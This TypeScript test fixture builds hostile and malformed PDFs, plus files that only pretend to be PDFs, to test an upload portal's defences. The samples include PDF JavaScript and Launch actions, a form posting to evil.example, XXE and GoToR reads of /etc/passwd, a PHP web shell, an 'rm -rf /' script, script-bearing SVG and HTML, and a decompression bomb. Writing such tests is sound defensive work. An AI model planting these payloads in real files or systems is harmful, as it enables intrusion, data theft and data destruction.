import { deflateSync } from 'node:zlib';
import { type Bytes, pdfBomb, pdfBytes } from '#tests/documents.ts';

export type MaliciousFile = {
  what: string;
  bytes: Bytes;
  /** Must be rejected by every upload; others may be accepted if they are served safely. */
  isRefused?: true;
};

const MIB = 1024 * 1024;
const own = (bytes: Uint8Array): Bytes => new Uint8Array(bytes);
const text = (content: string): Bytes => own(Buffer.from(content, 'latin1'));

type Parts = { objects: Record<number, string | Buffer>; trailer?: string };
const CATALOG = '<< /Type /Catalog /Pages 2 0 R >>';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>';

/** A PDF of these objects, with a valid cross-reference table; without its own 1, 2 and 3 it is a plain page. */
export function pdfOf({ objects, trailer = '' }: Parts): Bytes {
  const all = Object.entries({ 1: CATALOG, 2: PAGES, 3: PAGE, ...objects });
  const chunks = [Buffer.from('%PDF-1.7\n')];
  const places: string[] = [];
  for (const [number, content] of all) {
    const at = chunks.reduce((sum, { length }) => sum + length, 0);
    places.push(`${number} 1\n${String(at).padStart(10, '0')} 00000 n \n`);
    chunks.push(Buffer.from(`${number} 0 obj\n`), Buffer.from(content), Buffer.from('\nendobj\n'));
  }
  const start = chunks.reduce((sum, { length }) => sum + length, 0);
  const size = Math.max(...all.map(([number]) => Number(number))) + 1;
  const table = `xref\n0 1\n0000000000 65535 f \n${places.join('')}trailer\n<< /Size ${size} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return own(Buffer.concat([...chunks, Buffer.from(table)]));
}

export const withCatalog = (entries: string, objects: Parts['objects'] = {}) =>
  pdfOf({ objects: { 1: `<< /Type /Catalog /Pages 2 0 R ${entries} >>`, ...objects } });
export const withPage = (entries: string, objects: Parts['objects'] = {}) =>
  pdfOf({ objects: { 3: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] ${entries} >>`, ...objects } });
export const stream = (entries: string, content: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${content.length} >>\nstream\n`),
    content,
    Buffer.from('\nendstream'),
  ]);

/** Actions of a reader: to run, open or send; the portal shows them only in a sandbox. */
const ACTIVE: Record<string, Bytes> = {
  'JavaScript on opening': withCatalog('/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
  'JavaScript among the names': withCatalog(
    '/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> >>',
  ),
  'JavaScript on closing': withCatalog('/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
  'JavaScript of a page': withPage('/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>'),
  'a program to launch': withCatalog(
    '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  ),
  'a link of a script': withPage(
    '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>]',
  ),
  'a form that sends itself': withCatalog('/OpenAction << /S /SubmitForm /F (https://evil.example/) >>'),
  'a jump to a file of the reader': withCatalog(
    '/OpenAction << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>',
  ),
  'an embedded program': withCatalog('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>', {
    4: stream('/Type /EmbeddedFile', Buffer.from('MZ')),
    5: '<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>',
  }),
  'a form in XML': withCatalog('/AcroForm << /XFA 4 0 R /Fields [] >>', {
    4: stream('', Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')),
  }),
  'rich media': withPage('/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>]'),
  'metadata with a script': withCatalog('/Metadata 4 0 R', {
    4: stream('/Type /Metadata /Subtype /XML', Buffer.from('<script>alert(1)</script>')),
  }),
};

const chain = (length: number) =>
  Object.fromEntries(
    Array.from({ length }, (_, index) => [
      index + 2,
      `<< /Type /Pages /Parent ${index + 1} 0 R /Count 1 /Kids [${index + 3} 0 R] >>`,
    ]),
  );

/** Structures without an end, without a bottom, or without a reason. */
const SHAPES: Record<string, Bytes> = {
  'a table of contents that names itself as the former': pdfOf({ objects: {}, trailer: '/Prev 9' }),
  'pages that hold themselves': pdfOf({ objects: { 2: '<< /Type /Pages /Kids [2 0 R] /Count 1 >>' } }),
  'a page that is its own parent': pdfOf({ objects: { 3: '<< /Type /Page /Parent 3 0 R >>' } }),
  'a billion pages, it says': pdfOf({ objects: { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>' } }),
  'minus one page': pdfOf({ objects: { 2: '<< /Type /Pages /Kids [3 0 R] /Count -1 >>' } }),
  'pages 2,000 levels deep': pdfOf({
    objects: { ...chain(2000), 2002: '<< /Type /Page /Parent 2001 0 R /MediaBox [0 0 9 9] >>' },
  }),
  '10,000 pages': pdfOf({
    objects: { 2: `<< /Type /Pages /Count 10000 /Kids [${'3 0 R '.repeat(10_000)}] >>` },
  }),
  'a length that is itself': withPage('/Contents 4 0 R', { 4: '<< /Length 4 0 R >>\nstream\na\nendstream' }),
  'a length of two billion': withPage('/Contents 4 0 R', {
    4: '<< /Length 2147483647 >>\nstream\na\nendstream',
  }),
  'fifty filters over each other': withPage('/Contents 4 0 R', {
    4: stream(`/Filter [${'/FlateDecode '.repeat(50)}]`, deflateSync(Buffer.alloc(100))),
  }),
  'an array of 50,000 levels': withCatalog(`/A ${'['.repeat(50_000)}${']'.repeat(50_000)}`),
  'a dictionary of 20,000 levels': withCatalog(`/A ${'<</A '.repeat(20_000)}1${'>>'.repeat(20_000)}`),
  'two billion objects, it says': pdfOf({ objects: {}, trailer: '/Size 2147483647' }),
  'no catalog': pdfOf({ objects: { 1: 'null' } }),
  'a catalog that is a number': pdfOf({ objects: { 1: '1' } }),
  'a name of 100,000 letters': withCatalog(`/${'A'.repeat(100_000)} 1`),
  'an unknown encryption': pdfOf({ objects: {}, trailer: '/Encrypt << /Filter /Nobody /V 9 >>' }),
};

/** Documents of other kinds, or of several, under the name of one. */
const OTHERS: Record<string, Bytes> = {
  nothing: text(''),
  'one byte': text('%'),
  'a signature alone': text('%PDF-1.7'),
  'a signature and an end': text('%PDF-1.7\nstartxref\n0\n%%EOF'),
  'a page of HTML': text('<!doctype html><script>alert(1)</script>'),
  'HTML behind a signature': text('%PDF-1.7\n<html><script>alert(1)</script></html>\nstartxref\n0\n%%EOF'),
  'a picture that runs': text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
  XML: text('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
  'a script of a shell': text('#!/bin/sh\nrm -rf /\n'),
  'a script of a server': text('<?php system($_GET[0]); ?>'),
  'a program for Windows': text(`MZ${'\0'.repeat(600)}PE\0\0`),
  'a program for Linux': text(`\x7fELF\x02\x01\x01${'\0'.repeat(600)}`),
  'a class of Java': text('\xca\xfe\xba\xbe\0\0\x004'),
  'a picture with a place in it': text('\xff\xd8\xff\xe1\0\x10Exif\0\0MM\0*\0\0\0\x08\0\0\xff\xd9'),
  'a PNG': text('\x89PNG\r\n\x1a\n\0\0\0\rIHDR'),
  'a GIF that is a script': text('GIF89a/*\0\0*/=1;alert(1)'),
  'rich text': text('{\\rtf1{\\object\\objocx}}'),
  PostScript: text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file'),
  'a compressed file': text('\x1f\x8b\x08\0\0\0\0\0\0\x03'),
  'an archive of another kind': text("7z\xbc\xaf'\x1c\0\x04"),
  'a damaged archive': text('PK\x03\x04'),
  'an archive without an entry': text(`PK\x05\x06${'\0'.repeat(18)}`),
  'a database': text('SQLite format 3\0'),
  zeros: own(new Uint8Array(5000)),
  'text in UTF-16': own(Buffer.from('\ufeff%PDF-1.7', 'utf16le')),
};

/** Every hostile PDF, and every file that only claims to be one. */
export async function maliciousPdfs(): Promise<MaliciousFile[]> {
  const good = await pdfBytes({ size: 20_000 });
  const named = (
    files: Record<string, Bytes>,
    rest: Pick<MaliciousFile, 'isRefused'> = {},
  ): MaliciousFile[] => Object.entries(files).map(([what, bytes]) => ({ what, bytes, ...rest }));
  return [
    ...named(ACTIVE),
    ...named(SHAPES),
    ...named(OTHERS, { isRefused: true }),
    ...[1, 7, 600, 10_000, 19_000, 19_990].map(
      (length): MaliciousFile => ({
        what: `a PDF cut after ${length} bytes`,
        bytes: good.slice(0, length),
        isRefused: true,
      }),
    ),
    ...[20, 300, 19_500, 19_800].map((place) => ({
      what: `a PDF with another bit at ${place}`,
      bytes: good.map((byte, at) => (at === place ? byte ^ 64 : byte)),
    })),
    { what: 'a PDF with a password', bytes: await pdfBytes({ userPassword: 'x' }), isRefused: true },
    { what: 'a PDF that forbids printing', bytes: await pdfBytes({ ownerPassword: 'x' }) },
    { what: 'a PDF behind a page of HTML', bytes: joined(text('<html><script>alert(1)</script>'), good) },
    { what: 'a PDF before a page of HTML', bytes: joined(good, OTHERS['a page of HTML']) },
    { what: 'a PDF that unpacks to 300 MiB', bytes: pdfBomb(300 * MIB), isRefused: true },
  ];
}

const joined = (...parts: (Bytes | undefined)[]): Bytes =>
  own(Buffer.concat(parts.map((part) => part ?? text(''))));
